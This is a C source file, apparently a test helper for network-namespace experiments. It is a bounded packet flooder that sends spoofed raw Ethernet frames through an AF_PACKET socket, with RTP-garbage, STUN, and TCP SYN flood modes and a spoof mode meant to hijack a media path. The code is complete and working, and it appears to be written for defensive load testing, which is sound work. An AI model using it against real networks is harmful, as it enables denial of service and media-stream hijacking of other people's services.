/* An attack sender for the netns tests of issue 12: Ethernet frames written
 * with sendmmsg(2) on an AF_PACKET socket, so that source addresses and MACs
 * can be anything (spoofed). Bounded: it stops after --seconds or --count.
 *
 *   flood --iface IF --dst-mac MAC --dst-ip IP --mode MODE [options]
 *
 * MODE  rtp   RTP-looking garbage (12-byte header + 160 bytes) to UDP ports
 *             in [--port-lo, --port-hi]
 *       stun  STUN Binding Requests with a random USERNAME to those ports
 *       syn   TCP SYNs to --port-lo from random source ports
 *       spoof frames with one exact 5-tuple (--src-ip, --src-port to
 *             --port-lo) and --src-mac: SRTCP-looking garbage (an attempt to
 *             move a participant's media path)
 * Sources: --sources N addresses from --src-ip upwards (last octet), random
 * source ports (except spoof). --pps rate (0: as fast as possible).
 * Prints one JSON line: {"sent": N, "seconds": S, "pps": R}.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { kBatch = 64, kFrameMax = 256 };

struct opts {
  const char* iface;
  uint8_t dst_mac[6], src_mac[6];
  uint32_t dst_ip, src_ip; /* host order */
  const char* mode;
  unsigned sources;
  uint16_t port_lo, port_hi, src_port;
  double pps, seconds;
  unsigned long count;
};

static uint64_t rng = 0x9E3779B97F4A7C15ull;
static uint32_t rnd(void) {
  rng ^= rng << 13;
  rng ^= rng >> 7;
  rng ^= rng << 17;
  return (uint32_t)(rng >> 11);
}

static double now_s(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static int parse_mac(const char* s, uint8_t m[6]) {
  unsigned v[6];
  if (sscanf(s, "%x:%x:%x:%x:%x:%x", &v[0], &v[1], &v[2], &v[3], &v[4], &v[5]) != 6) return -1;
  for (int i = 0; i < 6; ++i) m[i] = (uint8_t)v[i];
  return 0;
}

static uint16_t csum(const uint8_t* p, size_t n, uint32_t acc) {
  for (size_t i = 0; i + 1 < n; i += 2) acc += (uint32_t)(p[i] << 8 | p[i + 1]);
  if (n & 1) acc += (uint32_t)p[n - 1] << 8;
  while (acc >> 16) acc = (acc & 0xffff) + (acc >> 16);
  return (uint16_t)~acc;
}

static void put16(uint8_t* p, uint16_t v) {
  p[0] = (uint8_t)(v >> 8);
  p[1] = (uint8_t)v;
}
static void put32(uint8_t* p, uint32_t v) {
  put16(p, (uint16_t)(v >> 16));
  put16(p + 2, (uint16_t)v);
}

/* Builds one frame into f; returns its length. */
static size_t build(const struct opts* o, uint8_t* f) {
  const int tcp = strcmp(o->mode, "syn") == 0;
  const int spoof = strcmp(o->mode, "spoof") == 0;
  uint8_t l4[200];
  size_t l4len;
  const uint32_t src_ip = spoof ? o->src_ip : o->src_ip + rnd() % o->sources;
  const uint16_t sport = spoof ? o->src_port : (uint16_t)(1024 + rnd() % 60000);
  const uint16_t span = (uint16_t)(o->port_hi - o->port_lo + 1);
  const uint16_t dport = tcp || spoof ? o->port_lo : (uint16_t)(o->port_lo + rnd() % span);
  if (tcp) {
    memset(l4, 0, 20);
    put16(l4, sport);
    put16(l4 + 2, dport);
    put32(l4 + 4, rnd());
    l4[12] = 0x50;
    l4[13] = 0x02; /* SYN */
    put16(l4 + 14, 64240);
    l4len = 20;
  } else {
    uint8_t* pl = l4 + 8;
    size_t plen;
    if (strcmp(o->mode, "stun") == 0) {
      char user[32];
      const int ul = snprintf(user, sizeof user, "%08x:%08x", rnd(), rnd());
      memset(pl, 0, 20);
      put16(pl, 0x0001);
      put16(pl + 2, (uint16_t)(4 + 20));
      put32(pl + 4, 0x2112A442);
      for (int i = 8; i < 20; ++i) pl[i] = (uint8_t)rnd();
      put16(pl + 20, 0x0006);
      put16(pl + 22, (uint16_t)ul);
      memcpy(pl + 24, user, (size_t)ul);
      plen = 24 + 20;
    } else if (spoof) {
      pl[0] = 0x80;
      pl[1] = 201; /* RR: SRTCP-looking */
      put16(pl + 2, 7);
      for (int i = 4; i < 40; ++i) pl[i] = (uint8_t)rnd();
      plen = 40;
    } else {
      pl[0] = 0x80;
      pl[1] = 111;
      for (int i = 2; i < 172; ++i) pl[i] = (uint8_t)rnd();
      plen = 172;
    }
    put16(l4, sport);
    put16(l4 + 2, dport);
    put16(l4 + 4, (uint16_t)(8 + plen));
    put16(l4 + 6, 0);
    l4len = 8 + plen;
  }
  memcpy(f, o->dst_mac, 6);
  if (spoof) {
    memcpy(f + 6, o->src_mac, 6);
  } else {
    memcpy(f + 6, o->src_mac, 6);
    f[11] = (uint8_t)(src_ip & 0xff); /* a MAC per source */
  }
  put16(f + 12, 0x0800);
  uint8_t* ip = f + 14;
  memset(ip, 0, 20);
  ip[0] = 0x45;
  put16(ip + 2, (uint16_t)(20 + l4len));
  put16(ip + 6, 0x4000);
  ip[8] = 64;
  ip[9] = tcp ? 6 : 17;
  put32(ip + 12, src_ip);
  put32(ip + 16, o->dst_ip);
  put16(ip + 10, csum(ip, 20, 0));
  memcpy(ip + 20, l4, l4len);
  if (tcp) {
    uint8_t pseudo[12];
    memcpy(pseudo, ip + 12, 8);
    pseudo[8] = 0;
    pseudo[9] = 6;
    put16(pseudo + 10, (uint16_t)l4len);
    uint32_t acc = 0;
    for (int i = 0; i < 12; i += 2) acc += (uint32_t)(pseudo[i] << 8 | pseudo[i + 1]);
    put16(ip + 20 + 16, csum(ip + 20, l4len, acc));
  }
  return 14 + 20 + l4len;
}

static void usage(void) {
  fprintf(stderr,
          "usage: flood --iface IF --dst-mac MAC --dst-ip IP --mode rtp|stun|syn|spoof\n"
          "             [--src-ip IP] [--src-mac MAC] [--src-port P] [--sources N]\n"
          "             [--port-lo P] [--port-hi P] [--pps R] [--seconds S] [--count N]\n");
  exit(2);
}

int main(int argc, char** argv) {
  struct opts o = {0};
  o.sources = 1;
  o.seconds = 1;
  o.port_lo = o.port_hi = 50000;
  parse_mac("02:00:c6:12:01:00", o.src_mac);
  struct in_addr a;
  inet_pton(AF_INET, "198.18.0.3", &a);
  o.src_ip = ntohl(a.s_addr);
  int have_dst = 0;
  for (int i = 1; i < argc; ++i) {
    const char* k = argv[i];
    if (i + 1 >= argc) usage();
    const char* v = argv[++i];
    if (!strcmp(k, "--iface"))
      o.iface = v;
    else if (!strcmp(k, "--dst-mac")) {
      if (parse_mac(v, o.dst_mac)) usage();
    } else if (!strcmp(k, "--src-mac")) {
      if (parse_mac(v, o.src_mac)) usage();
    } else if (!strcmp(k, "--dst-ip")) {
      if (inet_pton(AF_INET, v, &a) != 1) usage();
      o.dst_ip = ntohl(a.s_addr);
      have_dst = 1;
    } else if (!strcmp(k, "--src-ip")) {
      if (inet_pton(AF_INET, v, &a) != 1) usage();
      o.src_ip = ntohl(a.s_addr);
    } else if (!strcmp(k, "--mode"))
      o.mode = v;
    else if (!strcmp(k, "--sources"))
      o.sources = (unsigned)strtoul(v, NULL, 10);
    else if (!strcmp(k, "--port-lo"))
      o.port_lo = (uint16_t)strtoul(v, NULL, 10);
    else if (!strcmp(k, "--port-hi"))
      o.port_hi = (uint16_t)strtoul(v, NULL, 10);
    else if (!strcmp(k, "--src-port"))
      o.src_port = (uint16_t)strtoul(v, NULL, 10);
    else if (!strcmp(k, "--pps"))
      o.pps = strtod(v, NULL);
    else if (!strcmp(k, "--seconds"))
      o.seconds = strtod(v, NULL);
    else if (!strcmp(k, "--count"))
      o.count = strtoul(v, NULL, 10);
    else
      usage();
  }
  if (!o.iface || !o.mode || !have_dst || o.sources == 0 || o.sources > 65536 ||
      o.port_hi < o.port_lo || o.seconds <= 0 || o.seconds > 600 ||
      (strcmp(o.mode, "rtp") && strcmp(o.mode, "stun") && strcmp(o.mode, "syn") &&
       strcmp(o.mode, "spoof")))
    usage();
  rng ^= (uint64_t)getpid() << 20;

  const int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
  if (fd < 0) {
    perror("flood: socket(AF_PACKET)");
    return 1;
  }
  struct sockaddr_ll sll = {0};
  sll.sll_family = AF_PACKET;
  sll.sll_ifindex = (int)if_nametoindex(o.iface);
  if (sll.sll_ifindex == 0) {
    fprintf(stderr, "flood: no interface %s\n", o.iface);
    return 1;
  }
  if (bind(fd, (struct sockaddr*)&sll, sizeof sll) != 0) {
    perror("flood: bind");
    return 1;
  }

  static uint8_t frames[kBatch][kFrameMax];
  struct iovec iov[kBatch];
  struct mmsghdr msgs[kBatch];
  const double start = now_s(), end = start + o.seconds;
  unsigned long sent = 0;
  for (;;) {
    const double t = now_s();
    if (t >= end || (o.count != 0 && sent >= o.count)) break;
    unsigned n = kBatch;
    if (o.count != 0 && o.count - sent < n) n = (unsigned)(o.count - sent);
    if (o.pps > 0) {
      /* Pace: never ahead of the schedule. */
      const double due = (double)sent / o.pps;
      if (t - start < due) {
        const double wait = due - (t - start);
        struct timespec ts = {(time_t)wait, (long)((wait - (double)(time_t)wait) * 1e9)};
        nanosleep(&ts, NULL);
        continue;
      }
    }
    for (unsigned i = 0; i < n; ++i) {
      iov[i].iov_base = frames[i];
      iov[i].iov_len = build(&o, frames[i]);
      memset(&msgs[i], 0, sizeof msgs[i]);
      msgs[i].msg_hdr.msg_iov = &iov[i];
      msgs[i].msg_hdr.msg_iovlen = 1;
    }
    const int r = sendmmsg(fd, msgs, n, 0);
    if (r < 0) {
      if (errno == ENOBUFS || errno == EAGAIN || errno == EINTR) continue;
      perror("flood: sendmmsg");
      return 1;
    }
    sent += (unsigned long)r;
  }
  const double took = now_s() - start;
  printf("{\"sent\": %lu, \"seconds\": %.3f, \"pps\": %.0f}\n", sent, took,
         took > 0 ? (double)sent / took : 0.0);
  close(fd);
  return 0;
}
